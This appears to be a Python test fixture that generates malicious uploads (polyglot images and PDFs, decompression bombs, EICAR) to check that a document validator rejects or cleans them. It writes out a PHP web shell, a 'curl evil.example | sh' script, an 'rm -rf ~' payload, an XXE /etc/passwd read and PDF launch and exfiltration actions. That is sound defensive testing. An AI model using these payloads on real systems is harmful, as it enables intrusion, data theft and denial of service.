"""Files that must not get in. Each is made here; nothing of the kind lies in the repository."""

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.support import files
from tests.support.files import EICAR, jpeg, pdf, picture, png, png_chunk, saved

CLEANED = "cleaned"  # taken, and nothing of the harm comes along
SCRIPT = b"<html><body onload=alert(1)><script>alert(document.cookie)</script></body></html>"
PHP = b"<?php system($_GET['c']); ?>"
PE = b"MZ\x90\0\x03\0\0\0" + b"\0" * 56 + b"This program cannot be run in DOS mode.\r\r\n$"
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 57


def archive(name="evil.sh", content=b"#!/bin/sh\nrm -rf ~\n", comment=b""):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(name, content)
        made.comment = comment
    return out.getvalue()


def docx():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("[Content_Types].xml", "<Types/>")
        made.writestr("word/document.xml", "<document/>")
    return out.getvalue()


def zip_bomb():
    return archive("zeros", b"\0" * 50_000_000)


def jpeg_of(width, height):
    """A small JPEG whose header promises more."""
    data = bytearray(jpeg())
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def script_between_segments():
    data = files.jpeg_with(0xFE, b"x")
    return data[:7] + SCRIPT + data[7:]


def png_of(width, height, **how):
    data = bytearray(png(**how))
    data[16:24] = struct.pack(">II", width, height)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


def endless_jpeg():
    """A progressive JPEG of 40 megapixels with thousands of scans, each of which costs a walk over all of it."""
    data = saved(picture((8000, 5000)), "JPEG", progressive=True)
    start = data.rindex(b"\xff\xda")
    return data[:start] + data[start:-2] * 400 + data[-2:]


def action(**entries):
    def change(document):
        document.Root.OpenAction = Dictionary(**entries)

    return pdf(change=change)


def annotation(**entries):
    def change(document):
        note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 100, 100]), **entries)
        document.pages[0].obj.Annots = document.make_indirect(Array([document.make_indirect(note)]))

    return pdf(change=change)


def link(**entries):
    return annotation(Subtype=Name.Link, A=Dictionary(**entries))


def attachment(document):
    document.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(document, PE)


def xfa(document):
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp:xdp/>"))


def named_script(document):
    scripts = Array([String("go"), Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))])
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=scripts))


def page_action(document):
    document.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.Named, N=Name.Print))


def content(data, **entries):
    def change(document):
        stream = pikepdf.Stream(document, b"")
        stream.write(data, **entries)
        document.pages[0].obj.Contents = document.make_indirect(stream)

    return pdf(change=change)


def flate_bomb(layers):
    data, packer = b"", zlib.compressobj(1)
    for _ in range(400):
        data += packer.compress(b"\0" * 1_000_000)
    data += packer.flush()
    for _ in range(layers - 1):
        data = zlib.compress(data)
    return content(data, filter=Array([Name.FlateDecode] * layers))


def run_length_bomb():
    """No filter of ours: qpdf unpacks it, 5 MB to 10 GB, and the process's memory is the limit."""
    packed = zlib.compress(zlib.compress(b"\x81\0" * 80_000_000, 1))
    return content(packed, filter=Array([Name.FlateDecode, Name.FlateDecode, Name.RunLengthDecode]))


def huge_image(document):
    stream = document.make_stream(b"\0" * 100)
    stream.Type, stream.Subtype, stream.Width, stream.Height = Name.XObject, Name.Image, 20_000, 10_000
    stream.ColorSpace, stream.BitsPerComponent = Name.DeviceGray, 1
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(A=stream))
    document.pages[0].obj.Contents = document.make_stream(b"500 0 0 500 0 0 cm /A Do")


def page_tree_loop():
    """A node of the page tree that is its own child."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[2 0 R]>>endobj\n"
        b"xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000053 00000 n \n"
        b"trailer<</Size 3/Root 1 0 R>>\nstartxref\n109\n%%EOF\n"
    )


def endless_drawing():
    """A form that draws itself ten times over, ten levels deep: 10,000,000,000 rectangles."""

    def change(document):
        form = None
        for _ in range(10):
            inner = b"0 0 500 500 re f " if form is None else b"/F Do " * 10
            stream = document.make_stream(inner)
            stream.Type, stream.Subtype, stream.BBox = Name.XObject, Name.Form, Array([0, 0, 500, 500])
            if form is not None:
                stream.Resources = Dictionary(XObject=Dictionary(F=form))
            form = stream
        document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(F=form))
        document.pages[0].obj.Contents = document.make_stream(b"/F Do")

    return pdf(change=change)


def before_first_object(data, inserted):
    """Something behind the header; the cross references are moved along."""
    with pikepdf.open(io.BytesIO(data)) as document:
        out = io.BytesIO()
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    text, shift = out.getvalue(), len(inserted)
    head = text.index(b"\n") + 1
    start = text.rindex(b"\nxref") + 1
    table = text[start:]
    rows = b"".join(
        b"%010d %s" % (int(row[:10]) + shift, row[11:]) if row[17:18] == b"n" else row
        for row in table.splitlines(keepends=True)
        if not row.startswith((b"startxref", b"%%EOF")) and not row.strip().isdigit()
    )
    return text[:head] + inserted + text[head:start] + rows + b"startxref\n%d\n%%%%EOF\n" % (start + shift)


def protected(**passwords):
    return pdf(encryption=pikepdf.Encryption(**passwords))


def everything():
    """(what, file name, how to make it, the code it is rejected with or CLEANED)"""
    unknown, wrong, broken = "document_type_unknown", "document_extension_wrong", "document_malformed"
    foreign, infected = "document_foreign_content", "document_infected"
    complex_, large = "document_too_complex", "document_picture_too_large"
    flate = Array([Name.FlateDecode])
    return [
        # other kinds of files, whatever they are called
        (
            "SVG with a script",
            "a.svg",
            lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            unknown,
        ),
        ("HTML called PNG", "a.png", lambda: SCRIPT, unknown),
        (
            "XML with an outer entity",
            "a.pdf",
            lambda: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
            unknown,
        ),
        ("Word document", "a.docx", lambda: docx(), unknown),
        ("ZIP called PDF", "a.pdf", lambda: archive(), unknown),
        ("ZIP bomb", "a.pdf", lambda: zip_bomb(), unknown),
        ("Windows program", "a.exe", lambda: PE, unknown),
        ("Linux program", "a.jpg", lambda: ELF, unknown),
        ("shell script", "a.pdf", lambda: b"#!/bin/sh\ncurl evil.example | sh\n", unknown),
        ("PHP called JPEG", "a.php.jpg", lambda: PHP, unknown),
        ("GIF", "a.gif", lambda: saved(picture(mode="P"), "GIF"), unknown),
        ("GIF with an archive", "a.gif", lambda: saved(picture(mode="P"), "GIF") + archive("A.class"), unknown),
        ("TIFF", "a.tif", lambda: saved(picture(), "TIFF"), unknown),
        ("WebP", "a.webp", lambda: saved(picture(), "WEBP"), unknown),
        ("BMP", "a.bmp", lambda: saved(picture(), "BMP"), unknown),
        ("HEIC", "a.heic", lambda: struct.pack(">I", 24) + b"ftypheic\0\0\0\0mif1heic" + b"\0" * 200, unknown),
        ("text with a PDF behind it", "a.pdf", lambda: b"Hello\n" + pdf(), CLEANED),
        ("HTML with a PDF behind it", "a.pdf", lambda: SCRIPT + pdf(), unknown),
        ("nothing but zeros", "a.png", lambda: b"\0" * 1000, unknown),
        # names that do not fit
        ("PNG called script", "a.js", lambda: png(), wrong),
        ("PDF called program", "invoice.pdf.exe", lambda: pdf(), wrong),
        ("JPEG called web page", "a.html", lambda: jpeg(), wrong),
        # nothing and too much
        ("empty", "a.pdf", lambda: b"", "document_empty"),
        ("oversize", "a.pdf", lambda: pdf() + b"\0" * 21_000_000, "document_too_large"),
        # EICAR
        ("EICAR", "eicar.com", lambda: EICAR, infected),
        ("EICAR behind a picture", "a.jpg", lambda: jpeg() + EICAR, infected),
        ("EICAR in a PDF", "a.pdf", lambda: content(EICAR), infected),
        ("EICAR in a packed PDF stream", "a.pdf", lambda: content(zlib.compress(EICAR), filter=flate), infected),
        (
            "EICAR in a doubly packed stream",
            "a.pdf",
            lambda: content(
                zlib.compress(zlib.compress(b"\0" * 999_980 + EICAR)), filter=Array([Name.FlateDecode] * 2)
            ),
            infected,
        ),
        (
            "EICAR in hexadecimal",
            "a.pdf",
            lambda: content(EICAR.hex().encode() + b">", filter=Array([Name.ASCIIHexDecode])),
            infected,
        ),
        ("EICAR in a PNG text", "a.png", lambda: files.png_with_text(Comment=EICAR.decode()), infected),
        (
            "EICAR in a packed PNG text",
            "a.png",
            lambda: files.png_with((b"zTXt", b"Comment\0\0" + zlib.compress(EICAR))),
            infected,
        ),
        # pictures with company
        ("JPEG and HTML", "a.jpg", lambda: jpeg() + SCRIPT, foreign),
        (
            "JPEG with a script in its comment",
            "a.jpg",
            lambda: files.jpeg_with(0xFE, b"*/=1;</x><script>alert(1)</script>"),
            foreign,
        ),
        ("JPEG with a script between its segments", "a.jpg", script_between_segments, foreign),
        ("JPEG with PHP in its EXIF", "a.jpg", lambda: files.jpeg_with(0xE1, b"Exif\0\0" + PHP), foreign),
        ("JPEG and archive", "a.jpg", lambda: jpeg() + archive(), foreign),
        ("JPEG and Java class", "a.jpg", lambda: jpeg() + b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 50, foreign),
        ("JPEG and program", "a.jpg", lambda: jpeg() + PE, foreign),
        ("JPEG and PDF", "a.jpg", lambda: jpeg() + pdf(), foreign),
        ("JPEG, video and archive", "a.jpg", lambda: jpeg() + files.video() + archive(), foreign),
        ("PNG and PHP", "a.png", lambda: png() + PHP, foreign),
        ("PNG and archive", "a.png", lambda: png() + archive(), foreign),
        ("PNG with PHP in a text", "a.png", lambda: files.png_with_text(Comment=PHP.decode()), foreign),
        (
            "PNG with a script in a packed text",
            "a.png",
            lambda: files.png_with((b"zTXt", b"x\0\0" + zlib.compress(SCRIPT))),
            foreign,
        ),
        (
            "PNG with HTML in an international text",
            "a.png",
            lambda: files.png_with((b"iTXt", b"x\0\1\0en\0x\0" + zlib.compress(SCRIPT))),
            foreign,
        ),
        ("PNG with a program in a chunk of its own", "a.png", lambda: files.png_with((b"evIl", ELF)), foreign),
        ("PNG with SVG in a text", "a.png", lambda: files.png_with_text(x='<svg onload="alert(1)">'), foreign),
        ("JPEG without an end, and archive", "a.jpg", lambda: jpeg()[:-2] + archive(), foreign),
        ("PNG without an end, and PHP", "a.png", lambda: png()[:-12] + png_chunk(b"tEXt", b"x\0" + PHP), foreign),
        # broken ones
        ("truncated JPEG", "a.jpg", lambda: jpeg()[:-400], broken),
        ("JPEG of three bytes", "a.jpg", lambda: b"\xff\xd8\xff", broken),
        ("JPEG without pixels", "a.jpg", lambda: b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xd9", broken),
        ("truncated PNG", "a.png", lambda: png()[:-40], broken),
        (
            "PNG whose pixels end too early",
            "a.png",
            lambda: png()[:33] + png_chunk(b"IDAT", zlib.compress(b"\0" * 9)) + png_chunk(b"IEND", b""),
            broken,
        ),
        ("PNG without anything", "a.png", lambda: b"\x89PNG\r\n\x1a\n", broken),
        ("truncated PDF", "a.pdf", lambda: pdf(3)[:-40], broken),
        ("PDF of its beginning", "a.pdf", lambda: b"%PDF-1.7\n", broken),
        ("PDF of noise", "a.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"\n%%EOF", broken),
        (
            "PDF whose cross references point nowhere",
            "a.pdf",
            lambda: pdf().replace(b"startxref\n", b"startxref\n9"),
            CLEANED,
        ),
        ("PDF whose page tree goes round in circles", "a.pdf", lambda: page_tree_loop(), broken),
        # bombs
        ("JPEG header of 65,500 × 65,500", "a.jpg", lambda: jpeg_of(65_500, 65_500), large),
        ("PNG header of 100,000 × 100,000", "a.png", lambda: png_of(100_000, 100_000), large),
        ("PNG header of 140 megapixels with transparency", "a.png", lambda: png_of(14_000, 10_000, mode="RGBA"), large),
        (
            "PNG header of 80 megapixels with a transparent colour",
            "a.png",
            lambda: png_of(10_000, 8_000, transparency=(255, 255, 255)),
            large,
        ),
        ("PNG of zeros, 225 megapixels", "a.png", lambda: files.png(mode="1", size=(15_000, 15_000)), large),
        (
            "PNG with a packed text of 20 MB",
            "a.png",
            lambda: files.png_with((b"zTXt", b"x\0\0" + zlib.compress(b"\0" * 20_000_000))),
            complex_,
        ),
        ("JPEG with hundreds of scans", "a.jpg", lambda: endless_jpeg(), complex_),
        ("PDF with 400 MB in a stream", "a.pdf", lambda: flate_bomb(1), complex_),
        ("PDF with 400 MB packed three times", "a.pdf", lambda: flate_bomb(3), complex_),
        ("PDF with 20 GB in runs", "a.pdf", lambda: run_length_bomb(), complex_),
        ("PDF with a picture of 200 megapixels", "a.pdf", lambda: pdf(change=huge_image), complex_),
        ("PDF with 60 pages", "a.pdf", lambda: pdf(60), "document_page_count"),
        ("PDF with 5,000 pages", "a.pdf", lambda: pdf(5_000), "document_page_count"),
        ("PDF without a page", "a.pdf", lambda: pdf(0), "document_page_count"),
        ("PDF that draws for hours", "a.pdf", lambda: endless_drawing(), complex_),
        # PDFs that do something
        ("PDF that runs a script when opened", "a.pdf", lambda: action(S=Name.JavaScript, JS="app.alert(1)"), CLEANED),
        ("PDF that prints when opened", "a.pdf", lambda: action(S=Name.Named, N=Name.Print), CLEANED),
        ("PDF with a named script", "a.pdf", lambda: pdf(change=named_script), CLEANED),
        (
            "PDF with a script spelt in hexadecimal",
            "a.pdf",
            lambda: link(S=Name("/JavaScriptXXXX"), F="x").replace(b"/JavaScriptXXXX", b"/J#61vaScri#70t"),
            CLEANED,
        ),
        ("PDF that starts a program", "a.pdf", lambda: link(S=Name.Launch, F="cmd.exe"), CLEANED),
        ("PDF that opens another file", "a.pdf", lambda: link(S=Name.GoToR, F="//evil.example/share/x.pdf"), CLEANED),
        ("PDF that opens an embedded file", "a.pdf", lambda: link(S=Name.GoToE, T=Dictionary(R=Name.C)), CLEANED),
        ("PDF that sends a form", "a.pdf", lambda: link(S=Name.SubmitForm, F="http://evil.example/"), CLEANED),
        ("PDF that fetches form data", "a.pdf", lambda: link(S=Name.ImportData, F="\\\\evil.example\\x.fdf"), CLEANED),
        ("PDF with a link to a script", "a.pdf", lambda: link(S=Name.URI, URI=" java\nscript:alert(1)"), CLEANED),
        (
            "PDF with a player",
            "a.pdf",
            lambda: annotation(Subtype=Name.RichMedia, RichMediaContent=Dictionary()),
            CLEANED,
        ),
        ("PDF with an attachment", "a.pdf", lambda: pdf(change=attachment), CLEANED),
        ("PDF with an XFA form", "a.pdf", lambda: pdf(change=xfa), CLEANED),
        ("PDF with actions of a page", "a.pdf", lambda: pdf(change=page_action), CLEANED),
        # PDFs with company
        ("PDF and archive", "a.pdf", lambda: pdf() + archive(), foreign),
        ("PDF and archive that ends like a PDF", "a.pdf", lambda: pdf() + archive(comment=b"\n%%EOF\n"), foreign),
        (
            "PDF with an archive inside its last object",
            "a.pdf",
            lambda: content(archive(content=b"x" * 40), filter=Name.DCTDecode),
            foreign,
        ),
        ("PDF and something that nobody knows", "a.pdf", lambda: pdf() + b"\x01\x02 surplus", CLEANED),
        ("GIF with a PDF behind it", "a.pdf", lambda: b"GIF89a\1\0\1\0" + pdf(), unknown),
        ("script before a PDF", "a.pdf", lambda: b"x=1 <script>alert(1)</script>\n" + pdf(), foreign),
        ("PDF and PDF", "a.pdf", lambda: pdf() + pdf(2), foreign),
        ("PDF and HTML", "a.pdf", lambda: pdf() + SCRIPT, foreign),
        (
            "PDF with HTML before its first object",
            "a.pdf",
            lambda: before_first_object(pdf(), b"%" + SCRIPT + b"\n"),
            foreign,
        ),
        (
            "PDF with PHP between its objects",
            "a.pdf",
            lambda: pdf().replace(b"endobj\n", b"endobj\n%" + PHP + b"\n", 1),
            foreign,
        ),
        # locked ones
        ("PDF with a password", "a.pdf", lambda: protected(user="secret", owner="secret"), "document_encrypted"),
        ("PDF protected against printing", "a.pdf", lambda: protected(user="", owner="secret"), CLEANED),
    ]
